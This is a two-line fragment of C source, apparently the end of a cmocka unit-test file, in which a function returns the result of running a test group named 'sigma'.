    return cmocka_run_group_tests_name("sigma", tests, NULL, NULL);
}
